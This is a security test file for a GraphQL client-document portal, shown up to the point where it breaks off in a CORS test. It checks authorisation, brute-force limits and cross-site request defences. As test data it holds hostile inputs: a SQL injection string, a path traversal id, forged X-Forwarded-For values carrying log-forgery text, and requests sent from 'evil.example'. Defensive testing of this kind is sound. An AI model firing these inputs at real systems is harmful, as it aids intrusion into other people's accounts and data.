/**
 * The abuse suite: every attack the portal is tested against, in one list. Attacks
 * covered elsewhere name their file and test; the rest are tested below.
 *
 * | attack | covered in |
 * | --- | --- |
 * | **Someone else's ids** | |
 * | every operation that takes an id (table checked against the live schema), called by another client, a user of another company, a removed extra account and a signed-out caller: the same answer as for an id that does not exist, nothing changes, the attempt is logged | here: "someone else's ids" |
 * | GET /files/:id of someone else's document, by the same four | here: "someone else's ids"; test/dossiers/dossiers.test.ts "gives %s nothing of a dossier and its documents" |
 * | messageAdded on someone else's dossier (WebSocket) | here: "someone else's ids"; test/realtime/realtime.test.ts "answers for another client's dossier exactly as for one that does not exist, and delivers nothing of it" |
 * | another staff member's API token | test/api/api.test.ts "should not let anyone see or revoke another staff member's token" |
 * | a client calling staff operations | test/dossiers/dossiers.test.ts "answers FORBIDDEN to a client calling staff operations" |
 * | a user acting on after access is revoked or the extra account removed | test/dossiers/dossiers.test.ts "takes access away at once when it is revoked"; test/accounts/accounts.test.ts "lets the main account add, list and remove its extra accounts, and nobody else" |
 * | a root operation left public by accident | test/foundation/foundation.test.ts "leaves no root operation public by accident" |
 * | a client reading staff's second factors | test/messages/messages.test.ts "gives outsiders the same not-found answer as for a message that does not exist" |
 * | **Guessing passwords and codes** | |
 * | wrong passwords in repeated requests | test/accounts/accounts.test.ts "limits wrong passwords per account with RATE_LIMITED and a retry time" |
 * | wrong passwords as aliases in one request, more aliases than allowed, one address spraying many accounts, behind a forged X-Forwarded-For or an overlong address | here: "guessing passwords and codes" |
 * | wrong passwords in parallel requests | here |
 * | wrong second-factor codes as aliases and in repeated requests | test/accounts/accounts.test.ts "counts every wrong code, aliases included, and stops at five" |
 * | a fresh sign-in for fresh second-factor guesses | here |
 * | second-factor codes in parallel requests | here |
 * | replaying a used TOTP or recovery code | test/accounts/accounts.test.ts "refuses a TOTP code that was already used, and a used recovery code" |
 * | flooding a phone with SMS codes | test/accounts/sessions.test.ts "limits SMS codes per account per hour" |
 * | telling known addresses from unknown ones | test/accounts/accounts.test.ts "gives the same error for an unknown address and a wrong password", "sends a password link for a known address only, while answering true for both" |
 * | stale sessions | test/accounts/sessions.test.ts "ends a session after 30 idle minutes and after 12 hours in any case"; test/accounts/accounts.test.ts "revokes the other sessions when the password changes" |
 * | deep, wide, costly or aliased operations | src/graphql/armor.test.ts "operation limits"; test/realtime/realtime.test.ts "limits on the socket" |
 * | **Cross-site requests** | |
 * | text/plain and multipart queries without the preflight header | test/foundation/foundation.test.ts "blocks a simple (CSRF-able) request without a preflight header" |
 * | mutations as text/plain, form-urlencoded, multipart and GET; CORS preflight; SameSite cookie | here: "cross-site requests" |
 * | a document opened from a link on another site (Lax cookie), marking it read | here: "cross-site requests" |
 * | session cookie httpOnly, SameSite, never in a body; Secure under https | test/accounts/accounts.test.ts "gives the admin a session cookie that is httpOnly and SameSite, never the token in the body"; test/accounts/sessions.test.ts "lets the demo client sign in with the SMS code from the outbox, over a Secure cookie under https" |
 * | a WebSocket opened by a page on another site | test/realtime/realtime.test.ts "refuses an anonymous socket, and one opened by a page on another site" |
 * | a wrong bearer token beside a valid cookie | test/api/api.test.ts "decide alone when sent: a wrong token is nobody, even beside a valid session cookie" |
 * | framing, inline script, referrers, HSTS | test/security/headers.test.ts "security headers" |
 * | **Batched requests** | test/foundation/foundation.test.ts "refuses batched requests"; here: "batched requests" |
 * | **Uploads** | |
 * | a file over MAX_UPLOAD_MB sent chunked, with no Content-Length to refuse it by | here: "uploads" |
 * | a file over MAX_UPLOAD_MB | test/dossiers/dossiers.test.ts "refuses a file over MAX_UPLOAD_MB and keeps neither row nor file"; test/messages/messages.test.ts "saves a message and its attachments all or nothing, leaving no file behind" |
 * | a request over MAX_UPLOAD_MB x 10, more than 10 files | test/foundation/foundation.test.ts "refuses an upload over MAX_UPLOAD_MB x 10 files with 413 before reading it", "refuses more than 10 files in one request with 413" |
 * | HTML, script and programs disguised as .pdf/.png | here: "uploads"; test/messages/messages.test.ts "saves a message and its attachments all or nothing, leaving no file behind" |
 * | an HTML page uploaded as .html, then opened | here: "uploads" |
 * | malformed multipart: boundary, map, operations, missing file, truncated, hung up, folded part header | here: "uploads" |
 * | path traversal and control characters in a file name | test/dossiers/dossiers.test.ts "stores an upload under a generated name, hashing it and sniffing its type" |
 * | malware | test/security/scanner.test.ts "virus scanner hook (CLAMD_HOST)" |
 * | tampered or stolen files at rest | test/security/storage.test.ts "files at rest" |
 * | **Log injection**: CR LF and a forged JSON line in addresses, file names, keys, ids and headers | here: "log injection" |
 * | **Stored XSS**: payloads kept and returned verbatim by the API | here: "stored XSS" |
 * | stored XSS rendered harmlessly by the PWA (Chromium) | pwa/test/e2e/xss.test.ts |
 * | **Schema discovery**: introspection and "did you mean" hints in production | test/api/api.test.ts "introspection in production" |
 */
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { buildClientSchema, getIntrospectionQuery, getNamedType, isInputObjectType, type GraphQLInputType } from 'graphql';
import { symbols } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { logger } from '../../src/logger.js';
import { FailedAttempt } from '../../src/modules/auth/auth.entities.js';
import { Client, SET_PASSWORD, SIGN_IN, errorOf, totpCode, postUpload, type UploadFile } from '../client.js';
import { startSmtp } from '../fakes.js';
import { createTestDatabase, startTestServer, type GraphQLResponse, type TestServer } from '../server.js';
import { openSocket } from '../socket.js';
import { PASSWORD, invite, onboardWithTotp, type Smtp } from '../accounts/onboarding.js';

let server: TestServer;
let smtp: Smtp;
let staff: Client;
let company: Client;
let bram: Client;
let otherCompany: Client;
let removedExtra: Client;
let portalStarting: ReturnType<typeof spawnPortal>;
const ids: Record<string, string> = {};

const PDF = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'), Buffer.alloc(1024, 0x20), Buffer.from('\n%%EOF\n')]);
const PUBLISH = 'mutation ($input: PublishDocumentInput!) { publishDocument(input: $input) { id title fileName } }';
const SEND = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { id subject body } }';

/** Every line the in-process server logs, kept instead of written (this file runs in a process of its own). */
const logLines: string[] = [];
const logged = (from: number) => logLines.slice(from).map((line) => JSON.parse(line) as Record<string, any>);

/** A GraphQL multipart request as a browser sends it; `files` maps an object path to a file. */
async function upload(client: Client | null, query: string, variables: Record<string, unknown>, files: Record<string, UploadFile>, crossSite?: Record<string, string>) {
  const { status, body } = await postUpload(server.url, { query, variables }, files, { cookie: client?.cookie, headers: crossSite, preflight: !crossSite });
  return { status, body: body as GraphQLResponse };
}

/** A JSON POST with extra headers (e.g. X-Forwarded-For, which the server trusts from loopback as from its proxy). */
async function post(body: unknown, headers: Record<string, string> = {}) {
  const res = await fetch(`${server.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  return { status: res.status, text: await res.text() };
}

const storedFiles = () => {
  const walk = (d: string): string[] => (fs.existsSync(d) ? fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : [e.name])) : []);
  return walk(path.join(server.dataDir, 'files')).length;
};
const documentRows = async () => Number((await server.db.query('SELECT COUNT(*) AS n FROM document'))[0].n);
const auditRows = async () => Number((await server.db.query('SELECT COUNT(*) AS n FROM audit_event'))[0].n);

/** The built server as its own process (as `npm start` runs it), its stdout kept: what an operator's log collector reads. */
async function spawnPortal() {
  const main = fileURLToPath(new URL('../../dist/main.js', import.meta.url));
  if (!fs.existsSync(main)) throw new Error('server/dist is missing: run `npm run build -w server` first');
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'kluis-abuse-'));
  const database = await createTestDatabase();
  const env = { NODE_ENV: 'test', LOG_LEVEL: 'info', PORT: '0', HOST: '127.0.0.1', DATA_DIR: dataDir, DEMO_DATA: 'false', SMTP_URL: smtp.url, BOOTSTRAP_ADMIN_EMAIL: 'log-admin@kantoor.test', ...database.env };
  const child = spawn(process.execPath, [main], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  const output = { stdout: '', stderr: '' };
  child.stdout.on('data', (d) => (output.stdout += d));
  child.stderr.on('data', (d) => (output.stderr += d));
  const exited = new Promise<number | null>((resolve) => child.once('exit', resolve));
  let cleaned: Promise<void> | undefined;
  const cleanUp = () =>
    (cleaned ??= (async () => {
      child.kill('SIGKILL');
      fs.rmSync(dataDir, { recursive: true, force: true });
      await database.drop();
    })());
  let port: string | undefined;
  for (const deadline = Date.now() + 30_000; !(port = /"port":(\d+)/.exec(output.stdout)?.[1]); await new Promise((r) => setTimeout(r, 50))) {
    if (Date.now() > deadline || child.exitCode !== null) {
      await cleanUp();
      throw new Error(`the portal did not start: ${output.stdout}${output.stderr}`);
    }
  }
  return {
    url: `http://127.0.0.1:${port}`,
    output,
    async stop() {
      child.kill('SIGTERM');
      await exited;
    },
    cleanUp,
  };
}

beforeAll(async () => {
  const stream = (logger as any)[symbols.streamSym] as { write(line: string): boolean };
  stream.write = (line) => (logLines.push(line), true);
  logger.level = 'info';

  smtp = await startSmtp();
  // Started now, to come up while the rest is set up; used by "log injection".
  portalStarting = spawnPortal();
  portalStarting.catch(() => {});
  server = await startTestServer({ SMTP_URL: smtp.url, BOOTSTRAP_ADMIN_EMAIL: 'notaris@kantoor.test', MAX_UPLOAD_MB: '1' });
  ({ client: staff } = await onboardWithTotp(server, smtp, 'notaris@kantoor.test'));
  ids.staff = (await staff.ok('{ me { id } }')).me.id;
  ids.bram = (await invite(staff, { email: 'bram@example.nl' })).id;
  ids.company = (await invite(staff, { email: 'directie@bedrijf.nl', accountKind: 'COMPANY', companyName: 'Bedrijf B.V.' })).id;
  ids.otherCompany = (await invite(staff, { email: 'ander@concurrent.nl', accountKind: 'COMPANY', companyName: 'Concurrent B.V.' })).id;
  ({ client: bram } = await onboardWithTotp(server, smtp, 'bram@example.nl'));
  ({ client: company } = await onboardWithTotp(server, smtp, 'directie@bedrijf.nl'));
  ({ client: otherCompany } = await onboardWithTotp(server, smtp, 'ander@concurrent.nl'));
  for (const email of ['boekhouding@bedrijf.nl', 'vertrokken@bedrijf.nl']) {
    ids[email] = (await company.ok('mutation ($e: String!) { addExtraAccount(input: { email: $e }) { id } }', { e: email })).addExtraAccount.id;
  }
  await onboardWithTotp(server, smtp, 'boekhouding@bedrijf.nl');
  ({ client: removedExtra } = await onboardWithTotp(server, smtp, 'vertrokken@bedrijf.nl'));

  const create = async (input: Record<string, unknown>) => (await staff.ok('mutation ($input: CreateDossierInput!) { createDossier(input: $input) { id } }', { input })).createDossier.id;
  ids.companyDossier = await create({ number: '2026.0200', description: 'Statutenwijziging', clientIds: [ids.company], handlerId: ids.staff, progressSteps: ['Intake', 'Akte'] });
  ids.bramDossier = await create({ number: '2026.0143', description: 'Testament', clientIds: [ids.bram] });
  ids.otherDossier = await create({ number: '2026.0300', description: 'Fusie', clientIds: [ids.otherCompany] });
  ids.step = (await staff.ok('query ($id: ID!) { dossier(id: $id) { progress { steps { id } } } }', { id: ids.companyDossier })).dossier.progress.steps[0].id;
  const template = { title: 'Intake', pages: [{ title: 'U', questions: [{ id: 'naam', label: 'Naam', kind: 'TEXT', required: true }] }] };
  ids.template = (await staff.ok('mutation ($input: QuestionnaireTemplateInput!) { createQuestionnaireTemplate(input: $input) { id } }', { input: template })).createQuestionnaireTemplate.id;
  ids.questionnaire = (await staff.ok('mutation ($d: ID!, $t: ID!, $a: ID!) { sendQuestionnaire(dossierId: $d, templateId: $t, assigneeId: $a) { id } }', { d: ids.companyDossier, t: ids.template, a: ids.company })).sendQuestionnaire.id;
  ids.document = (await upload(staff, PUBLISH, { input: { dossierId: ids.companyDossier, category: 'DOCUMENT', title: 'Statuten', file: null } }, { 'variables.input.file': { name: 'statuten.pdf', body: PDF } })).body.data!.publishDocument.id;
  ids.message = (await staff.ok(SEND, { input: { dossierId: ids.companyDossier, subject: 'Concept', body: 'Vertrouwelijk' } })).sendMessage.id;
  ids.apiToken = (await staff.ok('mutation { createApiToken(name: "Boekhouding") { apiToken { id } } }')).createApiToken.apiToken.id;
  await company.ok('mutation ($id: ID!) { removeExtraAccount(userId: $id) }', { id: ids['vertrokken@bedrijf.nl'] });
});
afterAll(async () => {
  const portal = await portalStarting?.catch(() => null);
  const closed = await Promise.allSettled([portal?.cleanUp(), server?.close(), smtp?.close()]);
  for (const result of closed) if (result.status === 'rejected') throw result.reason;
});

// ---------------------------------------------------------------------------------------------
// Someone else's ids
// ---------------------------------------------------------------------------------------------

/** The ids an operation is probed with: the victim's, or all one id that does not exist, or all one malformed id. */
type Ids = Record<'dossier' | 'document' | 'message' | 'questionnaire' | 'step' | 'user' | 'template' | 'apiToken', string>;
interface Probe {
  query: string;
  /** `own` is a dossier of the attacker's own, for probes that vary only one id of several. */
  variables: (id: Ids, own: string) => Record<string, unknown>;
  via?: 'multipart' | 'socket';
}
const probe = (query: string, variables: Probe['variables'], via?: Probe['via']): Probe => ({ query, variables, via });

/** Every root operation that takes an ID (as an argument or inside an input); a test checks this against the schema. */
const ID_OPERATIONS: Record<string, Probe[]> = {
  auditEvents: [probe('query ($d: ID) { auditEvents(dossierId: $d) { totalCount edges { node { id } } } }', (id) => ({ d: id.dossier }))],
  dossier: [probe('query ($id: ID!) { dossier(id: $id) { id number } }', (id) => ({ id: id.dossier }))],
  questionnaire: [probe('query ($id: ID!) { questionnaire(id: $id) { id title } }', (id) => ({ id: id.questionnaire }))],
  revokeApiToken: [probe('mutation ($id: ID!) { revokeApiToken(id: $id) }', (id) => ({ id: id.apiToken }))],
  publishDocument: [probe(PUBLISH, (id) => ({ input: { dossierId: id.dossier, category: 'DOCUMENT', title: 'Inbraak', file: null } }), 'multipart')],
  markDocumentRead: [probe('mutation ($id: ID!) { markDocumentRead(id: $id) { id } }', (id) => ({ id: id.document }))],
  createDossier: [probe('mutation ($input: CreateDossierInput!) { createDossier(input: $input) { id } }', (id) => ({ input: { number: 'X-1', description: 'x', handlerId: id.user, clientIds: [id.user] } }))],
  updateDossier: [probe('mutation ($id: ID!, $h: ID) { updateDossier(id: $id, input: { handlerId: $h }) { id } }', (id) => ({ id: id.dossier, h: id.user }))],
  grantDossierAccess: [probe('mutation ($d: ID!, $u: ID!) { grantDossierAccess(dossierId: $d, userId: $u) { id } }', (id) => ({ d: id.dossier, u: id.user }))],
  revokeDossierAccess: [probe('mutation ($d: ID!, $u: ID!) { revokeDossierAccess(dossierId: $d, userId: $u) { id } }', (id) => ({ d: id.dossier, u: id.user }))],
  setProgressSteps: [probe('mutation ($d: ID!) { setProgressSteps(dossierId: $d, steps: []) { id } }', (id) => ({ d: id.dossier }))],
  setProgressStepDone: [probe('mutation ($s: ID!) { setProgressStepDone(stepId: $s, done: true) { id } }', (id) => ({ s: id.step }))],
  sendMessage: [
    probe(SEND, (id) => ({ input: { dossierId: id.dossier, subject: 'Inbraak', body: 'x' } })),
    probe(SEND, (id, own) => ({ input: { dossierId: own, subject: 'Re', body: 'x', replyToId: id.message } })),
  ],
  markMessageRead: [probe('mutation ($id: ID!) { markMessageRead(id: $id) { id } }', (id) => ({ id: id.message }))],
  saveQuestionnairePage: [probe('mutation ($id: ID!) { saveQuestionnairePage(id: $id, page: 0, answers: [{ questionId: "naam", value: ["Inbreker"] }]) { id } }', (id) => ({ id: id.questionnaire }))],
  completeQuestionnaire: [probe('mutation ($id: ID!) { completeQuestionnaire(id: $id) { id } }', (id) => ({ id: id.questionnaire }))],
  sendQuestionnaire: [probe('mutation ($d: ID!, $t: ID!, $a: ID!) { sendQuestionnaire(dossierId: $d, templateId: $t, assigneeId: $a) { id } }', (id) => ({ d: id.dossier, t: id.template, a: id.user }))],
  removeExtraAccount: [probe('mutation ($u: ID!) { removeExtraAccount(userId: $u) }', (id) => ({ u: id.user }))],
  inviteUser: [probe('mutation ($d: [ID!]) { inviteUser(input: { email: "inbreker@example.nl", dossierIds: $d }) { id } }', (id) => ({ d: [id.dossier] }))],
  resendInvitation: [probe('mutation ($u: ID!) { resendInvitation(userId: $u) }', (id) => ({ u: id.user }))],
  messageAdded: [probe('subscription ($d: ID!) { messageAdded(dossierId: $d) { id subject } }', (id) => ({ d: id.dossier }), 'socket')],
};

type Attacker = { client: () => Client; signedIn: boolean; own: () => string };
const ATTACKERS: Record<string, Attacker> = {
  'another client': { client: () => bram, signedIn: true, own: () => ids.bramDossier },
  'a user of another company': { client: () => otherCompany, signedIn: true, own: () => ids.otherDossier },
  'a removed extra account': { client: () => removedExtra, signedIn: false, own: () => ids.companyDossier },
  'a signed-out caller': { client: () => new Client(server), signedIn: false, own: () => ids.bramDossier },
};

/** What the attacker gets back, with everything that could tell the two apart (status, body, close code). */
async function attempt(attacker: Attacker, { query, variables, via }: Probe, id: Ids): Promise<unknown> {
  const client = attacker.client();
  const vars = variables(id, attacker.own());
  if (via === 'multipart') return upload(client, query, vars, { 'variables.input.file': { name: 'akte.pdf', body: PDF } });
  if (via === 'socket') {
    const socket = openSocket(server.url, { cookie: client.cookie });
    try {
      if (!attacker.signedIn) return { closed: (await socket.closed).code };
      const subscription = socket.subscribe(query, vars);
      await expect.poll(() => subscription.completed() || subscription.results.length > 0).toBe(true);
      return subscription.results;
    } finally {
      await socket.client.dispose();
    }
  }
  const res = await fetch(`${server.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...(client.cookie ? { cookie: client.cookie } : {}) }, body: JSON.stringify({ query, variables: vars }) });
  return { status: res.status, body: await res.json() };
}

const victimIds = (): Ids => ({
  dossier: ids.companyDossier,
  document: ids.document,
  message: ids.message,
  questionnaire: ids.questionnaire,
  step: ids.step,
  user: ids['boekhouding@bedrijf.nl']!,
  template: ids.template,
  apiToken: ids.apiToken,
});
const allOf = (value: string) => Object.fromEntries(Object.keys(victimIds()).map((k) => [k, value])) as Ids;

describe("someone else's ids", () => {
  it('probes every operation that takes an id', async () => {
    const res = await staff.ok(getIntrospectionQuery());
    const schema = buildClientSchema(res);
    const takesId = (type: GraphQLInputType, seen = new Set<string>()): boolean => {
      const named = getNamedType(type);
      if (named.name === 'ID') return true;
      if (!isInputObjectType(named) || seen.has(named.name)) return false;
      seen.add(named.name);
      return Object.values(named.getFields()).some((field) => takesId(field.type, seen));
    };
    const operations = [schema.getQueryType(), schema.getMutationType(), schema.getSubscriptionType()]
      .flatMap((type) => Object.values(type?.getFields() ?? {}))
      .filter((field) => field.args.some((arg) => takesId(arg.type)))
      .map((field) => field.name);
    expect(Object.keys(ID_OPERATIONS).sort()).toEqual(operations.sort());
  });

  it.each(Object.keys(ATTACKERS))('gives %s the answer for an id that does not exist, logs it and changes nothing', async (who) => {
    const attacker = ATTACKERS[who]!;
    const auditBefore = await auditRows();
    const unlogged = new Set<string>();
    for (const [operation, probes] of Object.entries(ID_OPERATIONS)) {
      for (const [i, p] of probes.entries()) {
        const label = `${operation} #${i}`;
        const from = logLines.length;
        const victim = await attempt(attacker, p, victimIds());
        // Each refusal names who asked: the user when signed in, and the address.
        const told = (line: Record<string, any>) => line.msg === 'refused' && line.level >= 40 && !!line.ip && (!attacker.signedIn || typeof line.userId === 'string');
        if (!logged(from).some(told)) unlogged.add(label);
        expect(await attempt(attacker, p, allOf(randomUUID())), label).toEqual(victim);
        expect(await attempt(attacker, p, allOf("1' OR '1'='1")), label).toEqual(victim);

        if (!attacker.signedIn) {
          if (p.via === 'socket') expect(victim, label).toEqual({ closed: 4403 });
          else expect(errorOf((victim as { body: GraphQLResponse }).body)?.code, label).toBe('UNAUTHENTICATED');
          continue;
        }
        const results = p.via === 'socket' ? (victim as GraphQLResponse[]) : [(victim as { body: GraphQLResponse }).body];
        for (const result of results) {
          const data = result.data?.[operation];
          const refused = !!result.errors?.length || data === null || (data?.totalCount === 0 && data.edges.length === 0);
          expect(refused, `${label}: ${JSON.stringify(result)}`).toBe(true);
        }
      }
    }
    expect([...unlogged]).toEqual([]);
    // Nothing happened: every change writes an audit event.
    expect(await auditRows()).toBe(auditBefore);
  });

  it.each(Object.keys(ATTACKERS))('gives %s a download of someone else\'s document exactly as one that does not exist, and logs it', async (who) => {
    const { cookie } = ATTACKERS[who]!.client();
    const download = async (id: string) => {
      const res = await fetch(`${server.url}/files/${id}`, { headers: cookie ? { cookie } : {} });
      return { status: res.status, type: res.headers.get('content-type'), length: res.headers.get('content-length'), body: await res.text() };
    };
    const from = logLines.length;
    const victim = await download(ids.document);
    expect(victim.status).toBe(404);
    expect(logged(from)).toContainEqual(expect.objectContaining({ msg: 'download refused', documentId: ids.document, level: 40 }));
    expect(await download(randomUUID())).toEqual(victim);
    expect(await download('..%2F..%2Fdocument')).toEqual(victim);
  });

  it('left the victims as they were', async () => {
    expect((await company.ok('{ extraAccounts { email } }')).extraAccounts).toEqual([{ email: 'boekhouding@bedrijf.nl' }]);
    expect((await staff.ok('{ apiTokens { id } }')).apiTokens).toEqual([{ id: ids.apiToken }]);
    const dossier = (await staff.ok('query ($id: ID!) { dossier(id: $id) { handler { id } participants { email } progress { done total } messages { totalCount } questionnaires { status } } }', { id: ids.companyDossier })).dossier;
    expect(dossier).toEqual({
      handler: { id: ids.staff },
      participants: [{ email: 'directie@bedrijf.nl' }, { email: 'boekhouding@bedrijf.nl' }],
      progress: { done: 0, total: 2 },
      messages: { totalCount: 1 },
      questionnaires: [{ status: 'OPEN' }],
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Guessing passwords and codes
// ---------------------------------------------------------------------------------------------

describe('guessing passwords and codes', () => {
  const code = (res: { text: string }) => errorOf(JSON.parse(res.text))?.code;
  const signIn = (email: string, password: string) => ({ query: SIGN_IN, variables: { email, password } });
  const aliased = (email: string, passwords: string[]) => ({
    query: `mutation { ${passwords.map((p, i) => `a${i}: signIn(email: ${JSON.stringify(email)}, password: ${JSON.stringify(p)}) { step }`).join(' ')} }`,
  });
  const wrong = (n: number) => Array.from({ length: n }, (_, i) => `Fout-${i}-Wachtwoord`);
  const withPassword = async (email: string) => {
    await invite(staff, { email });
    const { token } = await smtp.waitFor(email);
    await new Client(server).ok(SET_PASSWORD, { token, password: PASSWORD });
  };
  /** Six-digit codes that are not valid now (nor in the window either side). */
  const wrongCodes = (secret: string, n: number) => {
    const valid = new Set([-1, 0, 1].map((step) => totpCode(secret, step)));
    return Array.from({ length: n + 3 }, (_, i) => String(100_000 + i * 7919)).filter((c) => !valid.has(c)).slice(0, n);
  };
  let totpSecret: string;
  const secondFactorSession = async () => {
    const client = new Client(server);
    expect((await client.ok(SIGN_IN, { email: 'tweestaps@example.nl', password: PASSWORD })).signIn.step).toBe('SECOND_FACTOR');
    return client;
  };
  const VERIFY = 'mutation ($c: String!) { verifySecondFactor(method: TOTP, code: $c) { step } }';

  beforeAll(async () => {
    await invite(staff, { email: 'tweestaps@example.nl' });
    ({ totpSecret } = await onboardWithTotp(server, smtp, 'tweestaps@example.nl'));
    await withPassword('parallel@example.nl');
  });

  it('counts a request of aliased sign-ins as one attempt, refuses more aliases than allowed unrun, and holds for the right password', async () => {
    const email = 'doelwit@example.nl';
    await withPassword(email);
    const from = { 'x-forwarded-for': '198.51.100.1' };
    for (let i = 0; i < 3; i++) {
      const tooMany = await post(aliased(email, wrong(16)), from);
      expect([tooMany.status, code(tooMany)]).toEqual([400, 'GRAPHQL_VALIDATION_FAILED']);
    }
    // Root mutation fields run one after another and the first failure ends the request.
    for (let i = 0; i < 10; i++) {
      const res = JSON.parse((await post(aliased(email, wrong(15)), from)).text) as GraphQLResponse;
      expect(res.errors!.map((e) => e.extensions!.code)).toEqual(['BAD_USER_INPUT']);
    }
    const limited = await post(aliased(email, [PASSWORD, ...wrong(14)]), from);
    expect(code(limited)).toBe('RATE_LIMITED');
    expect(errorOf(JSON.parse(limited.text))!.retryAfterSeconds).toBeGreaterThan(0);
    expect(code(await post(signIn(email, PASSWORD), { 'x-forwarded-for': '198.51.100.99' }))).toBe('RATE_LIMITED');
  });

  it('counts guesses behind a forged X-Forwarded-For or an overlong address, and answers them without a server error', async () => {
    const email = 'vermomd@example.nl';
    await withPassword(email);
    const forged = { 'x-forwarded-for': `${'{"msg":"FORGED"}'.repeat(30)}` };
    for (let i = 0; i < 10; i++) expect(code(await post(signIn(email, `Fout-${i}-Wachtwoord`), forged))).toBe('BAD_USER_INPUT');
    expect(code(await post(signIn(email, PASSWORD), forged))).toBe('RATE_LIMITED');
    const [{ ip }] = await server.db.query("SELECT ip FROM audit_event WHERE action = 'SIGN_IN_FAILED' ORDER BY createdAt DESC LIMIT 1");
    expect(net.isIP(ip), ip).toBeGreaterThan(0);
    expect(code(await post(signIn(`${'a'.repeat(400)}@example.nl`, 'Fout-Wachtwoord-1'), { 'x-forwarded-for': '198.51.100.5' }))).toBe('BAD_USER_INPUT');
  });

  it('limits one address guessing across many accounts, and only that address', async () => {
    const from = { 'x-forwarded-for': '198.51.100.2' };
    for (let i = 0; i < 5; i++) expect(code(await post(signIn(`gok${i}@example.nl`, 'Fout-Wachtwoord-1'), from))).toBe('BAD_USER_INPUT');
    // 95 more failures from this address, written as those 5 were (95 sign-ins would spend seconds in argon2).
    const keys = (await server.db.query('SELECT DISTINCT `key` AS k FROM failed_attempt')).map((r: { k: string }) => r.k).filter((k: string) => k.includes('198.51.100.2'));
    expect(keys).toHaveLength(1);
    await server.db.getRepository(FailedAttempt).save(Array.from({ length: 95 }, () => server.db.getRepository(FailedAttempt).create({ key: keys[0] })));
    expect(code(await post(signIn('gok99@example.nl', 'Fout-Wachtwoord-1'), from))).toBe('RATE_LIMITED');
    expect(code(await post(signIn('tweestaps@example.nl', PASSWORD), from))).toBe('RATE_LIMITED');
    expect(JSON.parse((await post(signIn('tweestaps@example.nl', PASSWORD), { 'x-forwarded-for': '198.51.100.3' })).text).data.signIn.step).toBe('SECOND_FACTOR');
  });

  // Each attempt is written before the limit is checked (Throttle.begin), so requests sent at once cannot all pass.
  it('does not let parallel password guesses past the limit', async () => {
    const answers = await Promise.all(wrong(20).map((password) => post(signIn('parallel@example.nl', password), { 'x-forwarded-for': '198.51.100.4' })));
    expect(answers.filter((a) => code(a) === 'BAD_USER_INPUT').length).toBeLessThanOrEqual(10);
  });

  // The attempt is counted before the code is checked (UPDATE ... WHERE failures < 5), so codes sent at once cannot pass together.
  it('does not let parallel second-factor guesses past five', async () => {
    const client = await secondFactorSession();
    const answers = await Promise.all(wrongCodes(totpSecret, 20).map((c) => client.gql(VERIFY, { c })));
    expect(answers.filter((a) => errorOf(a)?.code === 'BAD_USER_INPUT').length).toBeLessThanOrEqual(5);
  });

  it('stops a session at five wrong codes', async () => {
    // As if the 15 minutes of the account's limit had passed since the parallel guesses above.
    await server.db.query("DELETE FROM failed_attempt WHERE `key` LIKE 'second-factor:%'");
    const session = await secondFactorSession();
    for (const c of wrongCodes(totpSecret, 5)) expect(errorOf(await session.gql(VERIFY, { c }))?.code).toBe('BAD_USER_INPUT');
    expect(errorOf(await session.gql(VERIFY, { c: wrongCodes(totpSecret, 6)[5] }))?.code).toBe('RATE_LIMITED');
  });

  // Wrong codes count per account as well as per session: signing in again with the password brings no new guesses.
  it('gives a new sign-in no new guesses at the second factor after the last one ran out', async () => {
    const next = await secondFactorSession();
    expect(errorOf(await next.gql(VERIFY, { c: wrongCodes(totpSecret, 7)[6] }))?.code).toBe('RATE_LIMITED');
  });
});

// ---------------------------------------------------------------------------------------------
// Cross-site requests and batching
// ---------------------------------------------------------------------------------------------

const SET_LANGUAGE = 'mutation { setLanguage(language: EN) { language } }';
const languageOf = async (client: Client) => (await client.ok('{ me { language } }')).me.language as string;
const fromEvil = { origin: 'https://evil.example', referer: 'https://evil.example/' };

describe('cross-site requests', () => {
  it('refuses a mutation sent as text/plain, a form, multipart or GET, even with the session cookie, and changes nothing', async () => {
    const url = `${server.url}/graphql`;
    const headers = { cookie: company.cookie, ...fromEvil };
    const form = new FormData();
    form.set('operations', JSON.stringify({ query: SET_LANGUAGE }));
    form.set('map', '{}');
    const attempts = {
      'text/plain': () => fetch(url, { method: 'POST', headers: { ...headers, 'content-type': 'text/plain' }, body: JSON.stringify({ query: SET_LANGUAGE }) }),
      'form-urlencoded': () => fetch(url, { method: 'POST', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ query: SET_LANGUAGE }).toString() }),
      'multipart/form-data': () => fetch(url, { method: 'POST', headers, body: form }),
      GET: () => fetch(`${url}?query=${encodeURIComponent(SET_LANGUAGE)}`, { headers }),
      'GET with the preflight header': () => fetch(`${url}?query=${encodeURIComponent(SET_LANGUAGE)}`, { headers: { ...headers, 'apollo-require-preflight': 'true' } }),
    };
    for (const [how, send] of Object.entries(attempts)) {
      const res = await send();
      const body = await res.text();
      expect([400, 405], `${how}: ${res.status} ${body}`).toContain(res.status);
      expect(body, how).not.toContain('"setLanguage"');
    }
    expect(await languageOf(company)).toBe('NL');
  });

  it('refuses a multipart upload without the preflight header, keeping neither message nor file', async () => {
    const [rows, files] = [await auditRows(), storedFiles()];
    const res = await upload(company, SEND, { input: { dossierId: ids.companyDossier, subject: 'CSRF', body: 'x', attachments: [null] } }, { 'variables.input.attachments.0': { name: 'a.pdf', body: PDF } }, fromEvil);
    expect(res.status).toBe(400);
    expect(res.body.data).toBeUndefined();
    // Polled: graphql-upload may still be removing its temporary copy of the refused file.
    await expect.poll(async () => [await auditRows(), storedFiles()]).toEqual([rows, files]);
  });

  it('allows no other site by CORS, so a JSON request from there never leaves the browser', async () => {
    const preflight = await fetch(`${server.url}/graphql`, {
      method: 'OPTIONS',
